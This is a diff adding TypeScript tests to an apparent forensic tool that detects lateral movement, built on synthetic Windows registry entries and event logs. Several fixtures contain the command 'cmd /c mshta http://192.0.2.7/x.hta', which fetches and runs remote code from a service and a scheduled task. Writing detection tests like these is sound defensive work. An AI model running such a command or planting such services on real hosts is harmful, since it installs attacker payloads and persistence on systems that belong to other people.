@@ -234,6 +234,125 @@ describe('the way in', () => {
   });
 });
 
+/** A service of a miner, as the registry and the log of the service manager know it. */
+const served: HostSpec = {
+  system: {
+    'ControlSet001\\Services\\UPlugPlay': {
+      values: {
+        Type: 16,
+        Start: 2,
+        ImagePath: 'cmd /c mshta http://192.0.2.7/x.hta',
+        ObjectName: 'LocalSystem',
+      },
+      written: ticks('2026-03-01T03:05:02Z'),
+    },
+  },
+};
+const installed = (time: string, name: string, image: string): GivenEvent => ({
+  provider: 'Service Control Manager',
+  channel: 'System',
+  computer: 'WEB-07',
+  eventId: 7045,
+  us: at(time),
+  data: { ServiceName: name, ImagePath: image, AccountName: 'LocalSystem' },
+});
+const miner = installed('2026-03-01T03:05:02Z', 'UPlugPlay', 'cmd /c mshta http://192.0.2.7/x.hta');
+const shared = (time: string, from: string): GivenEvent => ({
+  provider: auditing,
+  channel: 'Security',
+  computer: 'WEB-07',
+  eventId: 5145,
+  us: at(time),
+  data: {
+    SubjectUserName: 'Administrator',
+    IpAddress: from,
+    ShareName: '\\\\*\\IPC$',
+    RelativeTargetName: 'svcctl',
+  },
+});
+const came = logon(4624, at('2026-03-01T03:05:00Z'), 'Administrator', '10.0.0.77', 3);
+
+describe('from a neighbour', () => {
+  test('a service that was made over the network', async () => {
+    const told = await look(served, {
+      Security: [...usual, came, shared('2026-03-01T03:05:01Z', '10.0.0.77')],
+      System: [miner],
+    });
+    expect(ways(told)).toEqual(['confirmed lateral Administrator 10.0.0.77']);
+    expect(told.result.entry?.[0]?.chain.map(({ step }) => step)).toEqual([
+      'success',
+      'command',
+      'persistence',
+      'file',
+    ]);
+  });
+
+  test('without a log of shares it is probable', async () => {
+    const told = await look(served, { Security: [...usual, came], System: [miner] });
+    expect(ways(told)).toEqual(['probable lateral Administrator 10.0.0.77']);
+    expect(told.result.entry?.[0]?.missing).toEqual(['no-share-logged']);
+  });
+
+  test('a task that was registered over the network', async () => {
+    const task: GivenEvent = {
+      provider: 'Microsoft-Windows-TaskScheduler',
+      channel: 'x',
+      computer: 'WEB-07',
+      eventId: 106,
+      us: at('2026-03-01T03:05:03Z'),
+      data: { TaskName: '\\Sync9', UserContext: 'WEB-07\\Administrator' },
+    };
+    const told = await look(
+      {
+        ...mined('2026-03-01T03:06:00Z'),
+        tasks: [
+          { path: '\\Sync9', command: 'mshta.exe', parameters: 'http://192.0.2.7/x.hta', registry: false },
+        ],
+      },
+      { Security: [...usual, came, shared('2026-03-01T03:05:01Z', '10.0.0.77'), task] },
+    );
+    expect(ways(told)).toHaveLength(1);
+    expect(ways(told)[0]).toContain('lateral Administrator 10.0.0.77');
+  });
+
+  test.each<[string, readonly GivenEvent[], readonly GivenEvent[]]>([
+    [
+      'a neighbour who came an hour before',
+      [],
+      [logon(4624, at('2026-03-01T02:00:00Z'), 'x', '10.0.0.77', 3)],
+    ],
+    [
+      'monitoring that comes every day, and opens no share',
+      [],
+      [logon(4624, at('2026-02-20T03:05:00Z'), 'Administrator', '10.0.0.77', 3), came],
+    ],
+    [
+      'a deployment tool that makes services from afar all the time',
+      [
+        installed('2026-02-20T03:05:02Z', 'PDQDeployRunner-1', 'C:\\Windows\\AdminArsenal\\service.exe'),
+        installed('2026-02-24T03:05:02Z', 'PDQDeployRunner-1', 'C:\\Windows\\AdminArsenal\\service.exe'),
+      ],
+      [
+        logon(4624, at('2026-02-20T03:05:00Z'), 'Administrator', '10.0.0.77', 3),
+        logon(4624, at('2026-02-24T03:05:00Z'), 'Administrator', '10.0.0.77', 3),
+        came,
+        shared('2026-03-01T03:05:01Z', '10.0.0.77'),
+      ],
+    ],
+  ])('no way in: %s', async (_, services, logons) => {
+    const told = await look(served, { Security: [...usual, ...logons], System: [...services, miner] });
+    expect(ways(told)).toEqual([]);
+  });
+
+  test('no way in: an honest service that was made from afar beside another infection', async () => {
+    const told = await look(mined('2026-03-01T03:12:00Z'), {
+      Security: [...usual, came, shared('2026-03-01T03:05:01Z', '10.0.0.77')],
+      System: [installed('2026-03-01T03:05:02Z', 'ccmsetup', 'C:\\Windows\\ccmsetup\\ccmsetup.exe')],
+    });
+    expect(ways(told)).toEqual([]);
+  });
+});
+
 describe('no way in', () => {
   test.each<[string, readonly GivenEvent[]]>([
     [
